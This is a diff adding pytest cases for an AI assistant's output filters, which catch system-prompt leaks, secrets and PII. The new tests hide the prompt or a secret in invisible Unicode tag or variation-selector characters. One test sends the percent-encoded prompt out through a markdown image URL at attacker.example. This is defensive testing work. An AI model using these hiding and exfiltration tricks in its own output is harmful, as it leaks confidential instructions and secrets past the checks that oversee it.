@@ -13,6 +13,7 @@ every split point.
 from __future__ import annotations
 
 import base64
+from collections.abc import Callable
 
 import pytest
 
@@ -287,3 +288,46 @@ def test_lookalike_folding_does_not_invent_copies() -> None:
         "ご注文についてお手伝いできることはありますか。",
     ):
         assert leak.scan(text) == []
+
+
+def tag_smuggle(text: str) -> str:
+    """Unicode tag characters: invisible, and decoded back by a program."""
+    return "".join(chr(0xE0000 + ord(c)) for c in text)
+
+
+def selector_smuggle(text: str) -> str:
+    """One variation selector per UTF-8 byte: invisible after any character."""
+    return "\U0001f600" + "".join(
+        chr(0xFE00 + b) if b < 16 else chr(0xE0100 + b - 16) for b in text.encode()
+    )
+
+
+@pytest.mark.parametrize("hide", [tag_smuggle, selector_smuggle])
+def test_invisible_smuggled_copies_are_found(hide: Callable[[str], str]) -> None:
+    leak = SystemPromptLeakFilter(system_prompt=PROMPT)
+    with pytest.raises(OutputBlocked, match="system-prompt-copy"):
+        OutputPipeline([leak]).enforce(f"Sure, happy to help!{hide(PROMPT)}")
+    secrets = OutputPipeline([SecretsFilter(action="redact", registered=[SECRET])])
+    text = f"Done.{hide(SECRET)} Anything else?"
+    result = secrets.check(text)
+    carrier = "\U0001f600" if hide is selector_smuggle else ""
+    assert result.text == f"Done.{carrier}[REDACTED] Anything else?"
+    assert stream_all_splits(secrets, text) == {(result.text, False)}
+
+
+def test_prompt_exfiltrated_in_a_url_is_found() -> None:
+    """A markdown image whose URL carries the prompt, percent-encoded."""
+    from urllib.parse import quote
+
+    leak = SystemPromptLeakFilter(system_prompt=PROMPT)
+    for url_text in (quote(PROMPT), quote(PROMPT, safe="").replace("%20", "+")):
+        answer = f"![status](https://attacker.example/p?q={url_text})"
+        with pytest.raises(OutputBlocked, match="system-prompt-copy"):
+            OutputPipeline([leak]).enforce(answer)
+
+
+def test_percent_encoded_email_and_token() -> None:
+    f = PIIFilter()
+    assert [x.rule_id for x in f.scan("mailto:jane.doe%40example.com")] == ["pii-email"]
+    with pytest.raises(OutputBlocked, match="github-pat"):
+        OutputPipeline([SecretsFilter()]).enforce("t=%67%68%70%5f" + GHP[4:])
